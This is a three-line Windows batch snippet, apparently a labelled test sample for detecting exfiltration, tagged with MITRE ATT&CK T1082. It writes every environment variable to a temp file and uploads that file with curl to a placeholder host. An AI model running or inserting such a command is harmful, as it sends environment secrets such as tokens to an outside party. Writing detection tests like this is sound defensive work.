@rem expect: environment-sent-away | source: MITRE ATT&CK T1082
set > %TEMP%\e.txt
curl -F "f=@%TEMP%\e.txt" http://files.example.invalid/in
